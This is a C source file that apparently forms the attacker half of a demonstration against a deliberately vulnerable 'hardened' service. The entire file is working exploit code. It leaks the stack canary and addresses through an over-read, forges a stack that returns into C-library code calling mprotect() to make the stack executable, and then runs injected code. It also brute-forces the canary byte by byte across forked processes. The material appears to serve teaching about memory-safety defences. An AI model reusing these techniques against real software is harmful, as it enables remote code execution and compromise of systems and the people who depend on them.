/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The attack on the hardened service.  Its over-read (vulnerable.c) tells canary
 * and addresses, its overflow then puts a forged stack in place: the function
 * returns into instructions of the C library that call mprotect(), which makes the
 * stack executable and returns into the note.
 */
#include "attacker_hardened.h"

#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attempt.h"
#include "elf_search.h"
#include "ledger.h"
#include "rehearse.h"

#define PROGRAM "/bin/ledger_hardened"
enum {
    SLED_AT = 0x200, /* payload_entry.S */
    OPENED_BYTES = 0x8000,
    PAGE_MASK = 0xfff,
    TRIES = 3,
    NUMBERS = 256,
    CANARY_BYTES = 8
};

static struct gadget gadget;
static struct rehearsed known;
static uint64_t mprotect_at;

static void put(uint64_t at, uint64_t word)
{
    memcpy(attacker_post + at, &word, sizeof(word));
}

/* Behind the code that calls, on the forged stack: a place for the function's address. */
static uint64_t table_at(void)
{
    return known.sp_offset + gadget.frame;
}

/* The note, for a service whose stack was read.  Returns its bytes. */
static size_t forge(const uint64_t *words)
{
    uint64_t start = words[known.code] - known.code_offset;
    uint64_t note = words[known.stack] - known.stack_offset;
    size_t bytes = attacker_fill_post(0);

    for (unsigned i = 0; i < FRAME_WORDS; i++) {
        put(i * 8, words[known.canary]);
    }
    put(known.return_slot * 8, start + gadget.at);
    put(known.base_slot * 8, note + table_at() - gadget.function);
    put(table_at(), start + mprotect_at);
    put(known.sp_offset + gadget.x0, note & ~(uint64_t)PAGE_MASK);
    put(known.sp_offset + gadget.x1, OPENED_BYTES);
    put(known.sp_offset + gadget.x2, PROT_READ | PROT_WRITE | PROT_EXEC);
    put(known.sp_offset + gadget.x30, note + SLED_AT);
    return bytes;
}

/* Reads, then overflows: both in the same life of the service.  True if the injected code ran. */
static bool leak_and_inject(void)
{
    uint64_t words[MESSAGE_WORDS];
    int connection = attacker_connect();
    uint64_t lives = attacker_exhibit()->lives, deaths = attacker_exhibit()->deaths;

    attacker_wait_for_client();
    if (!rehearse_leak(connection, words)) {
        (void)close(connection);
        return false;
    }
    (void)attacker_note(connection, forge(words));
    (void)close(connection);
    return attacker_settle(deaths, lives);
}

static void leak_then_reuse(void)
{
    volatile struct exhibit *e = attacker_exhibit();

    if (!elf_search(PROGRAM, &gadget, &mprotect_at) ||
        !rehearse(PROGRAM, gadget.base, &known) || table_at() + 8 > SLED_AT) {
        attacker_finish(LEAK_THEN_REUSE);
        return;
    }
    for (unsigned i = 0; i < TRIES && e->lives == 0; i++) {
        e->variants[LEAK_THEN_REUSE].tries++;
        while (e->over == 0 && leak_and_inject()) {
        }
    }
    attacker_finish(LEAK_THEN_REUSE);
}

/*
 * A note that is one byte too long is answered if that byte is the canary's; then
 * one of two bytes, and so on.  What only forks has the same canary in each life.
 * Returns how many bytes are known.
 */
static unsigned try_bytes(unsigned known_bytes, int *connection)
{
    volatile struct exhibit *e = attacker_exhibit();

    for (unsigned guess = 0; guess < NUMBERS; guess++) {
        uint64_t deaths = e->deaths;

        if (*connection < 0) {
            *connection = attacker_connect();
            deaths = e->deaths;
        }
        attacker_post[NOTE_BYTES + known_bytes] = (unsigned char)guess;
        e->variants[CANARY_BY_BYTES].tries++;
        if (attacker_note(*connection, NOTE_BYTES + known_bytes + 1)) {
            return known_bytes + 1;
        }
        (void)close(*connection);
        *connection = -1;
        (void)attacker_settle(deaths, e->lives);
    }
    return known_bytes;
}

static void canary_by_bytes(void)
{
    volatile struct exhibit *e = attacker_exhibit();
    int connection = -1;
    unsigned bytes = 0;
    uint64_t canary, words[MESSAGE_WORDS];

    for (unsigned next = 1; bytes < CANARY_BYTES; bytes = next, next++) {
        if (try_bytes(bytes, &connection) != next) {
            break;
        }
    }
    /* Was it the canary?  The over-read tells. */
    memcpy(&canary, attacker_post + NOTE_BYTES, sizeof(canary));
    if (bytes == CANARY_BYTES && rehearse_leak(connection, words)) {
        e->variants[CANARY_BY_BYTES].succeeded = words[NOTE_BYTES / 8] == canary;
    }
    (void)close(connection);
    attacker_finish(CANARY_BY_BYTES);
}

void attack_hardened(void)
{
    if (attacker_exhibit()->hardened == 2) {
        canary_by_bytes();
    }
    leak_then_reuse();
}
